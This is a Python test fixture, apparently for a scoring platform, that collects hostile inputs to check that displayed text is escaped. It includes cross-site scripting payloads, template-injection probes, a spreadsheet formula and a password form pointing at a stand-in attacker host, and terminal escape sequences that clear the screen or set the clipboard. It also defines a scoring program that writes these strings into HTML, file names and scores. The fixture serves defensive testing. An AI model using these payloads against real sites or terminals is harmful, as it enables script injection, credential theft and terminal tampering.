"""Text that wants to be more than text, wherever somebody may write some."""

from __future__ import annotations

import json

SCRIPT = "<script>alert('attack')</script>"
HOSTILE: dict[str, str] = {
    "script": SCRIPT,
    "handler": "<img src=x onerror=alert('attack')>",
    "end of an attribute": "\"' onmouseover=alert('attack') x='",
    "end of a script": "</script></textarea></title><svg onload=alert('attack')>",
    "address": "[x](javascript:alert('attack')) <a href=\"javascript:alert('attack')\">x</a>",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//attack.example>",
    "frame": "<iframe src=//attack.example></iframe><base href=//attack.example>",
    "form": "<form action=//attack.example><input name=password></form>",
    "template": "{{7*191}}{%load x%}${7*191}",
    "formula": '=HYPERLINK("http://attack.example")',
    "erased terminal": "\x1b[2J\x1b[1;1H",
    "title of the terminal": "\x1b]0;attack\x07",
    "clipboard of the terminal": "\x1b]52;c;YXR0YWNr\x07",
    "control characters of eight bits": "\x9b2J\x9d0;attack\x9c",
    "other direction": "\u202egnp.exe",
    "line over line": "safe\rattack",
    "secret address": "http://127.0.0.1:8000/blobs/0123/file?sig=attack",
    "rich markup": "[bold red]attack[/] [link=http://attack.example]x[/link]",
}
ALL = " ".join(HOSTILE.values())
FOR_FILE_NAMES = "".join(
    letter for letter in f"{SCRIPT}{HOSTILE['handler']}{HOSTILE['erased terminal']}.txt" if letter != "/"
)
TERMINALS_OBEY = ("\x1b[2J", "\x1b]0;", "\x1b]52;", "\x07", "\x9b", "\x9d", "\u202e", "\r")
"""What must never reach a terminal as it is."""

SCORER = f"""
import json, os, sys
text = {ALL!r}
print(text)
sys.stderr.write(text + "\\n")
source, target = sys.argv[1:]
value = open(source + "/res/value.txt").read()
open(target + "/detailed_results.html", "w").write(text + {SCRIPT!r})
for name in ({FOR_FILE_NAMES!r}, {SCRIPT.replace("/", "")!r}):
    open(target + "/" + name, "w").write(text)
if value == "fail":
    sys.exit(text)
scores = {{"accuracy": float(value), {SCRIPT!r}: 1.0, "<b>bold": 2.0, "=1+1": 3.0}}
json.dump(scores, open(target + "/scores.json", "w"))
"""
"""A scoring program that writes hostile text to every place there is."""


def quoted(text: str) -> str:
    """A text as JSON, and so as YAML."""
    return json.dumps(text)
